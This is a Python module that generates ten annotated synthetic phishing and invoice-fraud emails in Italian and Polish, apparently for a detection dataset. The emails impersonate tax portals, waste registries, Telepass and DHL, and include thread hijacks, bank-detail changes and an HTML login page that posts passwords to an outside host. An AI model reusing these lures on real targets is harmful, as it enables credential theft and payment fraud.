"""Attack messages, Italian (5) and Polish (5)."""
import base64

from common import M, sysf, alt, plain, mixed, pdf_att, quote_block, exch_id, S, BANK, ids, docs, esc
from mime import Bin, Multi, Text
import routes as R

NIP_PL = ids.pl_nip('634281573')
PIVA_IT = ids.it_piva('0381245017')


def _btn_html(charset, title, paras_html, btn, url, footer, color='#0066cc', lang='it'):
    return """<!DOCTYPE html>
<html lang="%s"><head><meta http-equiv="Content-Type" content="text/html; charset=%s"></head>
<body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif;color:#222">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:%s;color:#fff;padding:16px 24px;font-size:18px;font-weight:bold">%s</td></tr>
<tr><td style="padding:20px 24px;font-size:14px;line-height:21px">%s</td></tr>
<tr><td align="center" style="padding:0 24px 24px 24px"><a href="%s" style="background:%s;color:#fff;text-decoration:none;padding:12px 28px;font-weight:bold;display:inline-block">%s</a></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777;border-top:1px solid #ddd">%s</td></tr>
</table></td></tr></table></body></html>
""" % (lang, charset, color, title, paras_html, url, color, btn, footer)


def _p(*ps):
    return '\n'.join('<p>%s</p>' % p for p in ps)


# ---------------------------------------------------------------- Italian

def it_sdi():
    url = 'https://ivaservizi-agenziaentrate.accesso-area-riservata.com/ser/fatture/esito?id=IT%s_0QX7L&r=5' % PIVA_IT
    text = """Agenzia delle Entrate - Fatture e Corrispettivi

Notifica di scarto

Gentile contribuente,

la fattura elettronica n. 2026/1187 del 28/10/2026 trasmessa per la partita IVA %s (EXAMPLE GROUP ITALIA S.R.L.) è stata scartata dal Sistema di Interscambio.

Identificativo SdI: 17482930417
Codice errore: 00404 - Fattura duplicata

Per evitare la mancata detrazione dell'IVA e le sanzioni previste per l'omessa fatturazione, è necessario visualizzare il dettaglio dell'esito e ritrasmettere il documento entro 5 giorni dalla presente comunicazione.

Accedi all'area riservata con SPID, CIE o credenziali Entratel/Fisconline:
%s

Cordiali saluti
Agenzia delle Entrate
Servizio Fatture e Corrispettivi

Messaggio generato automaticamente, si prega di non rispondere.
""" % (PIVA_IT, url)
    html = _btn_html('iso-8859-15', 'Agenzia delle Entrate &ndash; Fatture e Corrispettivi',
                     _p('<b>Notifica di scarto</b>', 'Gentile contribuente,',
                        'la fattura elettronica n. <b>2026/1187</b> del 28/10/2026 trasmessa per la partita IVA %s (EXAMPLE GROUP ITALIA S.R.L.) &egrave; stata <b>scartata</b> dal Sistema di Interscambio.' % PIVA_IT,
                        'Identificativo SdI: 17482930417<br>Codice errore: 00404 - Fattura duplicata',
                        'Per evitare la mancata detrazione dell\'IVA e le sanzioni previste per l\'omessa fatturazione, &egrave; necessario visualizzare il dettaglio dell\'esito e ritrasmettere il documento <b>entro 5 giorni</b> dalla presente comunicazione.',
                        'Accedi all\'area riservata con SPID, CIE o credenziali Entratel/Fisconline.'),
                     'Visualizza esito', url,
                     'Cordiali saluti<br>Agenzia delle Entrate &ndash; Servizio Fatture e Corrispettivi<br>Messaggio generato automaticamente, si prega di non rispondere.',
                     color='#0b3d91')
    return M(lang='it', slug='sdi-einvoice-rejected-phish', at='2026-10-29 12:26',
             frm=('Agenzia delle Entrate - Fatture e Corrispettivi', 'notifiche@studiodentisticoferraro.it'),
             env='ferrar42@srv21.webhosting-italia.net',
             to=[S('lorusso')], subject='Notifica di scarto fattura elettronica n. 2026/1187 - SdI 17482930417',
             hcs='iso-8859-15', henc='Q',
             sys=sysf(R.php_mail, host='srv21.webhosting-italia.net', ip='89.46.106.77', site_user='ferrar42',
                      script='/home/ferrar42/public_html/wp-content/uploads/2026/10/class-wp-mailer.php',
                      domain='studiodentisticoferraro.it'),
             body=alt(text, 'iso-8859-15', 'quoted-printable', html_text=html),
             technique='Tax-authority / e-invoicing (SdI) impersonation, credential phishing for SPID/Fisconline',
             what='Fake Agenzia delle Entrate "scarto" notice for an e-invoice, link to a fake reserved-area login',
             why='Sent by a PHP script from a hacked dentist\'s WordPress site (X-PHP-Originating-Script in uploads/); SdI outcomes '
                 'arrive through the channel configured with SdI/PEC, never as a link to a non-gov.it host; deadline and penalty pressure.')


def it_ferretti_hijack():
    pw = '2026FT'
    z = docs.zip_crypto([('Fattura_FT2026-1187_DDT.pdf.vbs', b"' inert placeholder - evaluation sample, contains no code\n")],
                        pw, dt=(2026, 11, 12, 17, 2, 40), seed='zip-it')
    earlier = """-----Messaggio originale-----
Da: Lo Russo Francesca <francesca.lorusso@example.com>
Inviato: giovedì 12 novembre 2026 10:18
A: Chiara Colombo <c.colombo@ferretti-trasporti.it>
Oggetto: R: Sollecito pagamento fatture trasporto settembre

Buongiorno Chiara,

abbiamo verificato: le fatture 1072 e 1074 sono in pagamento con la distinta di venerdì. Per la 1081 ci manca il DDT firmato del viaggio Brescia-Duisburg del 17/09, me lo potete rimandare?

Grazie, saluti
Francesca Lo Russo
Amministrazione - Example Group Italia S.r.l.
"""
    text = """Buonasera Francesca,

come richiesto vi inoltro la copia della fattura FT2026-1187 insieme al DDT firmato del viaggio del 17/09 e all'estratto conto aggiornato.

Per motivi di privacy il file è protetto da password: 2026FT

Vi chiedo gentilmente di darci conferma della data di pagamento.

Cordiali saluti

Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.p.A.
Via Mantova 118 - 25018 Montichiari (BS)
Tel. 030 961 4420

%s""" % quote_block(earlier, '')
    return M(lang='it', slug='thread-hijack-carrier-encrypted-zip', at='2026-11-12 17:05',
             frm=('Chiara Colombo', 'c.colombo@ferretti-trasporti.it'), to=[S('lorusso')],
             subject='R: R: Sollecito pagamento fatture trasporto settembre', hcs='windows-1252', henc='Q',
             in_reply_to=exch_id('lorusso-1081'), references=['BIZ:carrier-payment-reminder', exch_id('lorusso-1081')],
             zip_pw=pw,
             sys=sysf(R.smtp_auth, server='smtpdh20.si.aruba.it', server_ip='62.149.155.170', mta='aruba',
                      client=('[10.0.2.15]', 'unknown', '194.26.192.44'), mua='outlook', lang='it-IT'),
             body=mixed(alt(text, 'windows-1252', 'quoted-printable', 'outlook', lang='IT'),
                        Bin(z, 'application/x-zip-compressed', 'FT2026-1187_DDT.zip')),
             technique='Thread hijack from a compromised carrier mailbox with a password-protected ZIP (VBS payload)',
             what='Reply in a genuine payment-reminder thread from the carrier\'s real mailbox with an encrypted ZIP "invoice + DDT"',
             why='Real Ferretti mailbox at Aruba but submitted from a foreign hosting IP; the archive is ZipCrypto-encrypted to '
                 'evade scanning and contains "...pdf.vbs" (script with double extension); Ferretti normally sends plain PDF '
                 'invoices (business 17). The quoted thread is real, which is what makes the hijack convincing.')


def it_ferretti_bank():
    new = BANK['attacker_ferretti']
    text = """Spett.le Example Group Italia S.r.l.,
alla c.a. dell'Ufficio Amministrazione

con la presente Vi comunichiamo che, a seguito della migrazione dei nostri rapporti bancari, a partire da oggi tutti i pagamenti a favore di Ferretti Trasporti S.p.A. dovranno essere effettuati esclusivamente sulle nuove coordinate indicate nella comunicazione allegata.

Nuove coordinate bancarie:
Beneficiario: Ferretti Trasporti S.p.A.
Banca: Banca Sella S.p.A. - filiale di Milano
IBAN: %s

Le fatture attualmente in scadenza (FT2026-1072, FT2026-1074 e FT2026-1081, totale € 11.620,40) dovranno essere saldate sulle nuove coordinate. Eventuali bonifici disposti sul vecchio conto verranno respinti dalla banca.

Vi preghiamo di darci conferma dell'avvenuto aggiornamento rispondendo a questa e-mail.

Distinti saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via Mantova 118 - 25018 Montichiari (BS)
""" % ids.fmt_iban(new)
    letter = [('FERRETTI TRASPORTI S.p.A.', 15, True), 'Via Mantova 118 - 25018 Montichiari (BS) - P.IVA %s' % ids.it_piva('0218744098'), '',
              'Spett.le', 'Example Group Italia S.r.l.', 'Via della Siderurgia 48', '25125 Brescia', '',
              'Montichiari, 16/11/2026', '', ('Oggetto: Comunicazione variazione coordinate bancarie', 12, True), '',
              'Con la presente Vi comunichiamo le nuove coordinate bancarie sulle quali effettuare, con decorrenza immediata,',
              'tutti i pagamenti a nostro favore:', '',
              'Beneficiario: Ferretti Trasporti S.p.A.', 'Banca: Banca Sella S.p.A.', 'IBAN: %s' % ids.fmt_iban(new), 'BIC: SELBIT2BXXX', '',
              'Le precedenti coordinate non sono più operative.', '', 'Distinti saluti', '', 'Ferretti Trasporti S.p.A.',
              "L'Amministratore"]
    return M(lang='it', slug='carrier-bank-change-lookalike', at='2026-11-16 11:48',
             frm=('Amministrazione Ferretti Trasporti', 'amministrazione@ferretti-trasporti.com'), to=[S('lorusso')],
             cc=[S('bellandi')], subject='Comunicazione variazione coordinate bancarie', hcs='windows-1252', henc='Q',
             sys=sysf(R.vps, domain='ferretti-trasporti.com', ip='62.171.189.53', rdns='vmi2284119.contaboserver.net',
                      mua='outlook', lang='it-IT'),
             body=mixed(alt(text, 'windows-1252', 'quoted-printable', 'outlook', lang='IT'),
                        pdf_att('Variazione_coordinate_bancarie.pdf', letter, producer='LibreOffice 7.6')),
             technique='Carrier bank-detail change from a look-alike domain (.com instead of .it)',
             what='"Ferretti Trasporti" announces new bank details and asks to pay three open invoices there',
             why='ferretti-trasporti.com is not the carrier\'s ferretti-trasporti.it (and it runs on a Contabo VPS); it knows the open '
                 'invoice numbers (likely from the compromised thread, attack 18) and pushes immediate effect, "old account will reject"; '
                 'unsigned letter, no phone verification offered.')


def it_rentri():
    url = 'https://rentri-pagopa.servizi-ambiente.eu/avviso?iuv=0302 6118 4412 7730&cf=%s' % PIVA_IT
    url = url.replace(' ', '')
    iban = BANK['rentri_scam']
    text = """REGISTRO ELETTRONICO NAZIONALE PER LA TRACCIABILITÀ DEI RIFIUTI

Gentile Operatore,

dalle verifiche effettuate risulta che per l'unità locale EXAMPLE GROUP ITALIA S.R.L. - Via della Siderurgia 48, Brescia (iscrizione RENTRI n. OP1038 7712 0419) non è stato registrato il versamento del contributo annuale 2026 e dei diritti di segreteria.

Importo dovuto: € 110,00
Scadenza: 20/11/2026

Ai sensi del D.M. 4 aprile 2023 n. 59, il mancato versamento comporta la sospensione dell'iscrizione e l'impossibilità di vidimare i formulari (FIR) digitali; si applicano inoltre le sanzioni previste dall'art. 258 del D.Lgs. 152/2006.

Il pagamento può essere effettuato tramite pagoPA al seguente link:
%s

In alternativa è possibile effettuare un bonifico sul conto di appoggio del gestore:
IBAN %s - causale: RENTRI OP103877120419 contributo 2026

Cordiali saluti
Assistenza RENTRI
""" % (url, ids.fmt_iban(iban))
    html = _btn_html('utf-8', 'RENTRI &ndash; Registro Elettronico Nazionale per la Tracciabilit&agrave; dei Rifiuti',
                     _p('Gentile Operatore,',
                        'dalle verifiche effettuate risulta che per l\'unit&agrave; locale <b>EXAMPLE GROUP ITALIA S.R.L.</b> - Via della Siderurgia 48, Brescia (iscrizione RENTRI n. OP1038 7712 0419) non &egrave; stato registrato il versamento del contributo annuale 2026 e dei diritti di segreteria.',
                        'Importo dovuto: <b>&euro; 110,00</b><br>Scadenza: <b>20/11/2026</b>',
                        'Ai sensi del D.M. 4 aprile 2023 n. 59, il mancato versamento comporta la sospensione dell\'iscrizione e l\'impossibilit&agrave; di vidimare i formulari (FIR) digitali; si applicano inoltre le sanzioni previste dall\'art. 258 del D.Lgs. 152/2006.',
                        'In alternativa &egrave; possibile effettuare un bonifico sul conto di appoggio del gestore:<br>IBAN %s - causale: RENTRI OP103877120419 contributo 2026' % ids.fmt_iban(iban)),
                     'Paga con pagoPA', url, 'Cordiali saluti<br>Assistenza RENTRI', color='#1b5e20')
    return M(lang='it', slug='rentri-waste-registry-fee-phish', at='2026-11-13 08:15',
             frm=('RENTRI - Assistenza Operatori', 'assistenza@rentri-servizi.it'), env='0102019330-bounce@eu-south-1.amazonses.com',
             to=[S('bellandi')], subject='RENTRI: contributo annuale 2026 non risulta versato - scadenza 20/11/2026',
             hcs='utf-8', henc='B', sys=sysf(R.ses, region='eu-south-1'),
             body=alt(text, 'utf-8', 'base64', html_text=html),
             technique='Trade-specific payment phishing: Italian national waste-tracking registry (RENTRI) fee',
             what='Fake RENTRI notice: annual contribution unpaid, pay via fake pagoPA page or bank transfer',
             why='rentri-servizi.it / servizi-ambiente.eu are not the ministry\'s rentri.gov.it; pagoPA payments never go to a '
                 'private IBAN; threat of suspension of digital waste forms and sanctions; bulk-sent via Amazon SES. '
                 'Compare the genuine trade-association newsletter about RENTRI (business 21).')


def it_telepass():
    url = 'https://telepass-areaclienti.pedaggi-regolarizza.com/it/login?tr=GF418ZT'
    text = """Gentile Cliente,

risultano non addebitati sul Suo conto Telepass i seguenti transiti autostradali:

24/11/2026  A4 Brescia Ovest - Milano Est      veicolo GF 418 ZT   € 12,90
25/11/2026  A21 Brescia Centro - Cremona        veicolo GF 418 ZT   €  5,50

Totale da regolarizzare: € 18,40 + € 2,00 spese di gestione

L'addebito non è andato a buon fine a causa della scadenza del metodo di pagamento associato. Per evitare la sospensione del dispositivo e l'invio del verbale di mancato pagamento del pedaggio (art. 176 C.d.S.), La invitiamo ad aggiornare i dati di pagamento entro 48 ore:

%s

Grazie per aver scelto Telepass.

Servizio Clienti Telepass
""" % url
    html = _btn_html('iso-8859-15', 'Telepass',
                     _p('Gentile Cliente,', 'risultano non addebitati sul Suo conto Telepass i seguenti transiti autostradali:',
                        '24/11/2026 &nbsp; A4 Brescia Ovest - Milano Est &nbsp; veicolo GF 418 ZT &nbsp; &euro; 12,90<br>'
                        '25/11/2026 &nbsp; A21 Brescia Centro - Cremona &nbsp; veicolo GF 418 ZT &nbsp; &euro; 5,50',
                        '<b>Totale da regolarizzare: &euro; 18,40</b> + &euro; 2,00 spese di gestione',
                        'L\'addebito non &egrave; andato a buon fine a causa della scadenza del metodo di pagamento associato. Per evitare la sospensione del dispositivo e l\'invio del verbale di mancato pagamento del pedaggio (art. 176 C.d.S.), La invitiamo ad aggiornare i dati di pagamento <b>entro 48 ore</b>.'),
                     'Regolarizza ora', url, 'Grazie per aver scelto Telepass.<br>Servizio Clienti Telepass', color='#f5b800')
    return M(lang='it', slug='telepass-unpaid-tolls-phish', at='2026-11-27 19:33',
             frm=('Telepass', 'noreply@telepass-avvisi.com'), env='bounces+7748120-aa21-niccolo.ferrante=examplegroup.eu@em2291.telepass-avvisi.com',
             to=[S('ferrante')], rcpt=S('ferrante')[1], subject='Transiti non addebitati - azione richiesta entro 48 ore',
             hcs='iso-8859-15', henc='Q', sys=sysf(R.sendgrid, helo_dom='em2291.telepass-avvisi.com'),
             body=alt(text, 'iso-8859-15', 'quoted-printable', html_text=html),
             technique='Brand impersonation (motorway toll operator) for card phishing, small-amount lure',
             what='Fake Telepass notice of two unpaid truck tolls, "update payment method within 48 h"',
             why='Not telepass.com; SendGrid bulk sending from a fresh look-alike domain; small amount + 48-hour suspension threat '
                 'to collect card data on a fake login page.')


# ---------------------------------------------------------------- Polish

def pl_ksef():
    url = 'https://login-gov-pl.ksef-podatki.pl/login?ctx=ksef&nip=%s' % NIP_PL
    text = """Krajowy System e-Faktur (KSeF)

Szanowni Państwo,

informujemy, że w Krajowym Systemie e-Faktur oczekują na odbiór 3 faktury ustrukturyzowane wystawione na NIP %s (EXAMPLE GROUP POLSKA SP. Z O.O.).

Jednocześnie token uwierzytelniający wygenerowany dla Państwa podmiotu traci ważność z dniem 20.11.2026 r. Po tym terminie pobieranie faktur zakupowych przez system finansowo-księgowy zostanie wstrzymane, co może skutkować nieterminowym ujęciem faktur w ewidencji VAT.

Aby odnowić uprawnienia i wygenerować nowy token, należy zalogować się do Aplikacji Podatnika KSeF za pomocą profilu zaufanego lub bankowości elektronicznej:

%s

Wiadomość została wygenerowana automatycznie. Prosimy na nią nie odpowiadać.

Ministerstwo Finansów
Krajowa Administracja Skarbowa
""" % (NIP_PL, url)
    html = _btn_html('iso-8859-2', 'Krajowy System e-Faktur (KSeF)',
                     _p('Szanowni Pa&#324;stwo,',
                        'informujemy, &#380;e w Krajowym Systemie e-Faktur oczekuj&#261; na odbi&oacute;r <b>3 faktury ustrukturyzowane</b> wystawione na NIP %s (EXAMPLE GROUP POLSKA SP. Z O.O.).' % NIP_PL,
                        'Jednocze&#347;nie token uwierzytelniaj&#261;cy wygenerowany dla Pa&#324;stwa podmiotu traci wa&#380;no&#347;&#263; z dniem <b>20.11.2026 r.</b> Po tym terminie pobieranie faktur zakupowych przez system finansowo-ksi&#281;gowy zostanie wstrzymane.',
                        'Aby odnowi&#263; uprawnienia, nale&#380;y zalogowa&#263; si&#281; do Aplikacji Podatnika KSeF za pomoc&#261; profilu zaufanego lub bankowo&#347;ci elektronicznej.'),
                     'Zaloguj się przez login.gov.pl'.replace('ę', '&#281;'), url,
                     'Wiadomo&#347;&#263; zosta&#322;a wygenerowana automatycznie. Ministerstwo Finans&oacute;w &ndash; Krajowa Administracja Skarbowa',
                     color='#d4213d', lang='pl')
    return M(lang='pl', slug='ksef-token-expiry-phish', at='2026-11-17 07:48',
             frm=('KSeF - Ministerstwo Finansów', 'powiadomienia@ksef-podatki.pl'), to=[S('luczak')],
             subject='KSeF: wygaśnięcie tokenu uwierzytelniającego - 3 faktury oczekują na odbiór', hcs='iso-8859-2', henc='Q',
             sys=sysf(R.vps, domain='ksef-podatki.pl', ip='65.21.148.37', rdns='static.37.148.21.65.clients.your-server.de',
                      mua='phpmailer', via_webmail=True),
             body=alt(text, 'iso-8859-2', 'quoted-printable', html_text=html),
             technique='Tax-authority e-invoicing (KSeF) impersonation, fake login.gov.pl credential page',
             what='Fake Ministry of Finance notice: KSeF authorisation token expires, log in via "login.gov.pl"',
             why='ksef-podatki.pl on a Hetzner VPS is not ksef.podatki.gov.pl / mf.gov.pl; the link imitates login.gov.pl under a '
                 'foreign domain to steal trusted-profile/bank credentials; KSeF tokens are managed by the company\'s own '
                 'administrators, no e-mails about expiry. Compare the internal KSeF notice (business 24).')


def pl_hijack():
    page = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>Dokument udostępniony - OneDrive</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;margin:0}
.c{width:380px;margin:80px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 2px;margin:8px 0 16px 0;border:0;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 32px;font-size:15px;float:right}
.f{font-size:13px;color:#666;margin-top:60px}</style></head>
<body><div class="c">
<div style="font-size:13px;color:#666">Partner Logistik sp. z o.o. udostępnił(a) Ci plik</div>
<h2 style="font-weight:600">CMR_2026-11-0457_podpisany.pdf</h2>
<p>Aby wyświetlić dokument, potwierdź swój adres e-mail i hasło do poczty służbowej.</p>
<form method="post" action="https://partner-logistik-dokumenty.web.app/api/verify">
<input type="email" name="login" value="pawel.wroblewski@example.com">
<input type="password" name="passwd" placeholder="Hasło">
<button type="submit">Zaloguj</button>
</form>
<div class="f">Plik chroniony przez Microsoft OneDrive for Business</div>
</div></body></html>
"""
    earlier = """-----Original Message-----
From: Wróblewski Paweł <pawel.wroblewski@example.com>
Sent: Wednesday, November 18, 2026 9:12 AM
To: Tadeusz Zieliński <t.zielinski@partner-logistik.pl>
Subject: RE: Zlecenie transportowe 2026/11/0457 - CMR i awizacja

Panie Tadeuszu,

dziękuję za potwierdzenie. Proszę jeszcze o skan podpisanego CMR z rozładunku w Duisburgu, bez tego nie zamkniemy miesiąca.

Pozdrawiam
Paweł Wróblewski
"""
    text = """Dzień dobry Panie Pawle,

w załączeniu przesyłam podpisany CMR z rozładunku oraz potwierdzenie awizacji. Dokument otwiera się w przeglądarce - ze względu na RODO jest zabezpieczony logowaniem.

Proszę o informację, czy wszystko się zgadza.

Pozdrawiam serdecznie
Tadeusz Zieliński
Kierownik Działu Spedycji
Partner Logistik sp. z o.o.
ul. Portowa 14, 44-100 Gliwice
tel. +48 32 339 41 20, kom. +48 601 284 377

%s""" % quote_block(earlier, '')
    return M(lang='pl', slug='thread-hijack-partner-html-login', at='2026-11-18 16:20',
             frm=('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl'), to=[S('wroblewski')],
             subject='RE: Zlecenie transportowe 2026/11/0457 - CMR i awizacja', hcs='windows-1250', henc='Q',
             in_reply_to=exch_id('wroblewski-0457'), references=['BIZ:transport-order-cmr', exch_id('wroblewski-0457')],
             sys=sysf(R.smtp_auth, server='cloudserver2054937.home.pl', server_ip='79.96.217.48', mta='homepl',
                      client=('[192.168.56.101]', 'unknown', '45.88.186.21'), mua='outlook', lang='pl-PL'),
             body=mixed(alt(text, 'windows-1250', 'quoted-printable', 'outlook', lang='PL'),
                        Text(page, 'html', 'utf-8', 'base64', disp='attachment; filename="CMR_2026-11-0457_podpisany.html"', params='name="CMR_2026-11-0457_podpisany.html"')),
             technique='Thread hijack from a compromised logistics-partner mailbox with an HTML credential-harvesting attachment',
             what='Reply in a genuine CMR thread from the partner\'s real mailbox; "signed CMR" is an HTML login form',
             why='Real partner-logistik.pl mailbox at home.pl, but submitted from an unrelated foreign IP; the "CMR" is a local HTML '
                 'file with a pre-filled e-mail and password field posting to a firebase web.app host - credential theft. '
                 'The genuine partner sends scanned CMRs as PDF (business 23).')


def pl_bdo():
    url = 'https://bdo-rejestr.pl/podmiot/weryfikacja?nr=000184729'
    iban = BANK['bdo_scam']
    text = """Szanowni Państwo,

w związku z obowiązkiem wynikającym z art. 50 ust. 1 pkt 5 ustawy z dnia 14 grudnia 2012 r. o odpadach, uprzejmie przypominamy o konieczności uiszczenia opłaty rocznej za rok 2026 przez podmiot wpisany do rejestru BDO:

Podmiot: EXAMPLE GROUP POLSKA SP. Z O.O.
Numer rejestrowy BDO: 000184729
NIP: %s
Kwota opłaty: 300,00 zł

W systemie nie odnotowano wpłaty. Brak uregulowania opłaty w terminie do 30.11.2026 r. stanowi podstawę do wszczęcia postępowania w sprawie wykreślenia podmiotu z rejestru (art. 59 ustawy o odpadach).

Prosimy o weryfikację danych podmiotu i dokonanie płatności za pośrednictwem formularza:
%s

lub przelewem na rachunek:
%s
tytułem: BDO 000184729 opłata roczna 2026

Z poważaniem
Zespół obsługi rejestru BDO
""" % (NIP_PL, url, ids.fmt_iban(iban))
    return M(lang='pl', slug='bdo-register-fee-phish', at='2026-11-20 10:37',
             frm=('Rejestr BDO - obsługa podmiotów', 'powiadomienia@bdo-rejestr.pl'),
             env='bounce+2c41aa.9f3-malgorzata.luczak=example.com@mg.bdo-rejestr.pl', to=[S('luczak')],
             subject='Przypomnienie: opłata roczna BDO za 2026 r. - numer rejestrowy 000184729', hcs='utf-8', henc='Q',
             sys=sysf(R.mailgun, mgdomain='mg.bdo-rejestr.pl'),
             body=alt(text, 'utf-8', 'quoted-printable', 'simple'),
             technique='Trade-specific fee/credential phishing: Polish waste database register (BDO)',
             what='Fake BDO reminder: annual fee unpaid, threat of deletion from the register, link and bank account',
             why='The BDO register is run at bdo.mos.gov.pl and the annual fee is paid to the marshal\'s office account by end of '
                 'February, not to a private account in November; look-alike domain sent through Mailgun; deletion threat.')


def pl_dhl():
    url = 'https://dhl-odprawa.pl-paczki.com/clo/4839271055'
    text = """DHL Express Polska

Szanowny Kliencie,

przesyłka nr 4839271055 od nadawcy GUANGZHOU HUAWEN TRADING CO. LTD oczekuje na odprawę celną w oddziale Warszawa Okęcie.

Należności celne i podatkowe: 38,70 zł
Opłata za obsługę odprawy: 12,00 zł
Razem do zapłaty: 50,70 zł

Prosimy o uregulowanie należności w ciągu 3 dni roboczych. Po tym terminie przesyłka zostanie zwrócona do nadawcy, a koszty zwrotu obciążą odbiorcę.

Opłać teraz: %s

Dziękujemy za skorzystanie z usług DHL Express.

DHL Express (Poland) Sp. z o.o.
""" % url
    html = _btn_html('iso-8859-2', 'DHL Express',
                     _p('Szanowny Kliencie,',
                        'przesy&#322;ka nr <b>4839271055</b> od nadawcy GUANGZHOU HUAWEN TRADING CO. LTD oczekuje na odpraw&#281; celn&#261; w oddziale Warszawa Ok&#281;cie.',
                        'Nale&#380;no&#347;ci celne i podatkowe: 38,70 z&#322;<br>Op&#322;ata za obs&#322;ug&#281; odprawy: 12,00 z&#322;<br><b>Razem do zap&#322;aty: 50,70 z&#322;</b>',
                        'Prosimy o uregulowanie nale&#380;no&#347;ci w ci&#261;gu 3 dni roboczych. Po tym terminie przesy&#322;ka zostanie zwr&oacute;cona do nadawcy.'),
                     'Op&#322;a&#263; teraz', url, 'DHL Express (Poland) Sp. z o.o.', color='#d40511', lang='pl')
    return M(lang='pl', slug='dhl-customs-fee-phish', at='2026-12-03 14:02',
             frm=('DHL Express', 'powiadomienia@dhl-odprawa-celna.pl'), env='0102019-bounce@eu-central-1.amazonses.com',
             to=[S('dabrowski')], subject='Przesyłka 4839271055 oczekuje na odprawę celną - wymagana dopłata',
             hcs='iso-8859-2', henc='B', sys=sysf(R.ses, region='eu-central-1'),
             body=alt(text, 'iso-8859-2', 'base64', html_text=html),
             technique='Courier / customs-fee phishing (card data), brand impersonation of DHL',
             what='Fake DHL Express customs notice: pay PLN 50.70 within 3 days or the parcel is returned',
             why='Sender and link domains are not dhl.com / dhl.com.pl; unexpected parcel from an unknown Chinese sender; '
                 'small fee + return threat to collect card data; bulk-sent via Amazon SES.')


def pl_factoring():
    iban = BANK['factoring_scam']
    text = """Szanowni Państwo,

działając w imieniu Vistula Faktoring S.A., uprzejmie informujemy, że na podstawie umowy faktoringowej nr VF/2026/0917 z dnia 02.11.2026 r. spółka Partner Logistik sp. z o.o. z siedzibą w Gliwicach przelała na naszą rzecz wierzytelności przysługujące jej wobec Example Group Polska sp. z o.o. (cesja wierzytelności, art. 509 i nast. Kodeksu cywilnego).

W związku z powyższym, ze skutkiem od dnia doręczenia niniejszego zawiadomienia, zapłata za wszystkie nieuregulowane oraz przyszłe faktury wystawione przez Partner Logistik sp. z o.o. powinna następować wyłącznie na rachunek:

Vistula Faktoring S.A.
%s

Zapłata na inny rachunek nie będzie miała skutku zwalniającego. Oficjalne zawiadomienie o przelewie wierzytelności przesyłamy w załączeniu.

Ponieważ obsługę rozliczeń przejęła w całości nasza spółka, prosimy w tej sprawie nie kontaktować się z działem księgowości Partner Logistik. Prosimy o odesłanie podpisanego potwierdzenia przyjęcia zawiadomienia do dnia 27.11.2026 r.

Z poważaniem

Agnieszka Nowicka
Kierownik Zespołu Rozliczeń
Vistula Faktoring S.A.
ul. Grzybowska 62, 00-844 Warszawa
""" % ids.fmt_iban(iban)
    doc = [('Vistula Faktoring S.A.', 15, True), 'ul. Grzybowska 62, 00-844 Warszawa | KRS 0000981473', '',
           'Warszawa, 23.11.2026', '', 'Example Group Polska sp. z o.o.', 'ul. Hutnicza 21', '40-241 Katowice', '',
           ('ZAWIADOMIENIE O PRZELEWIE WIERZYTELNOŚCI', 12, True), '',
           'Niniejszym zawiadamiamy, że Partner Logistik sp. z o.o. przelała na rzecz Vistula Faktoring S.A.',
           'wszelkie wierzytelności wobec Państwa spółki (umowa faktoringowa nr VF/2026/0917).', '',
           'Rachunek do zapłaty: %s' % ids.fmt_iban(iban), '',
           'Zapłata na inny rachunek nie zwalnia z długu.', '', 'Potwierdzenie przyjęcia zawiadomienia:', '',
           '.......................................          .......................................',
           '           data, podpis                                     pieczęć firmy']
    return M(lang='pl', slug='factoring-assignment-bank-redirect', at='2026-11-23 13:26',
             frm=('Agnieszka Nowicka', 'a.nowicka@vistula-faktoring.pl'), to=[S('luczak')], cc=[S('wroblewski')],
             subject='Zawiadomienie o przelewie wierzytelności - Partner Logistik sp. z o.o.', hcs='windows-1250', henc='Q',
             sys=sysf(R.vps, domain='vistula-faktoring.pl', ip='141.94.212.86', rdns='vps-9ac1f2e4.vps.ovh.net',
                      mua='outlook', lang='pl-PL'),
             body=mixed(alt(text, 'windows-1250', 'quoted-printable', 'outlook', lang='PL'),
                        pdf_att('Zawiadomienie_cesja_VF-2026-0917.pdf', doc, producer='Microsoft: Print To PDF')),
             technique='Invoice redirection via a fake factoring/receivables-assignment notice',
             what='"Factoring company" claims the logistics partner assigned its receivables; pay all invoices to its account',
             why='Unknown "factoring" domain on an OVH VPS; no announcement from Partner Logistik itself; explicitly tells the '
                 'victim not to contact the supplier\'s accounts department (prevents verification); same goal as a bank-change fraud.')


def messages():
    return [it_sdi(), it_ferretti_hijack(), it_ferretti_bank(), it_rentri(), it_telepass(),
            pl_ksef(), pl_hijack(), pl_bdo(), pl_dhl(), pl_factoring()]
